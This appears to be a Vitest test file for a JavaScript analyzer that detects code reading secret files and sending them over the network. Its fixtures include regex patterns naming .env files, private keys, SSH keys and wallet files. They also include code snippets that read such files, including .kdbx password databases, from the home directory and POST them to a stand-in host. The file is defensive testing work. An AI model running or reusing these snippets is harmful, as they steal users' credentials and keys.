import { describe, expect, it } from 'vitest';
import { shapesOf } from '../../../../src/analyze/javascript/parsing/pattern-shapes.js';
import { flows, follow } from '../sample.js';

const HOLE = '\uFFFC';

describe('shapesOf', () => {
  it.each([
    ['^\\.env(\\.|$)', [`.env.${HOLE}`, '.env']],
    ['\\.(pem|key)$', [`${HOLE}.pem`, `${HOLE}.key`]],
    ['^id_(?:rsa|ed25519)$', ['id_rsa', 'id_ed25519']],
    ['\\.ya?ml$', [`${HOLE}.yml`, `${HOLE}.yaml`]],
    ['wallet\\d*\\.dat$', [`${HOLE}wallet${HOLE}.dat`]],
  ])('%s', (source, shapes) => {
    expect(shapesOf(source)).toEqual(shapes);
  });

  it.each(['.*', '^\\w+$', '(', 'a|b', '\\k<x>abc', `${'a'.repeat(300)}`])('says nothing of %s', (source) => {
    expect(shapesOf(source)).toBeNull();
  });
});

const SEND = "fetch('https://c.example', { method: 'POST', body });";
const LIST = "const fs = require('fs'); const path = require('path'); const dir = require('os').homedir();";

describe('names of a listing', () => {
  it.each([
    [
      'a filter',
      `const body = fs.readdirSync(dir).filter((f) => /^\\.env(\\.|$)/.test(f)).map((f) => fs.readFileSync(path.join(dir, f), 'utf8')).join();`,
    ],
    [
      'an early way out',
      `let body = ''; for (const f of fs.readdirSync(dir)) { if (!f.endsWith('.pem')) continue; body += fs.readFileSync(dir + '/' + f); }`,
    ],
    [
      'a member of a set',
      `const names = new Set(['id_rsa', 'id_dsa']); let body = ''; for (const e of fs.readdirSync(dir, { withFileTypes: true })) if (names.has(e.name)) body += fs.readFileSync(path.join(dir, e.name));`,
    ],
    [
      'a path that was put together before',
      `let body = ''; for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const p = path.join(dir, e.name); if (e.name === 'node_modules') continue; if (path.extname(e.name) === '.kdbx') body += fs.readFileSync(p); }`,
    ],
  ])('are known by %s', (_way, code) => {
    expect(flows(follow(`${LIST} ${code} ${SEND}`), 'secret.file', 'net.out')).toBeDefined();
  });

  it('stay unknown where the condition leaves them out, or has ended', () => {
    const other = `let body = ''; for (const f of fs.readdirSync(dir)) { if (f.endsWith('.pem')) continue; body += fs.readFileSync(dir + '/' + f); }`;
    const after = `let body = ''; for (const f of fs.readdirSync(dir)) { if (f.endsWith('.pem')) { console.log(f); } body += fs.readFileSync(dir + '/' + f); }`;
    for (const code of [other, after])
      expect(flows(follow(`${LIST} ${code} ${SEND}`), 'secret.file', 'net.out')).toBeUndefined();
  });

  it('are not those that a caller gave', () => {
    const code = `exports.send = (file) => { if (file.endsWith('.pem')) fetch('https://c.example', { body: require('fs').readFileSync(file) }); };`;
    expect(flows(follow(code), 'secret.file', 'net.out')).toBeUndefined();
  });
});
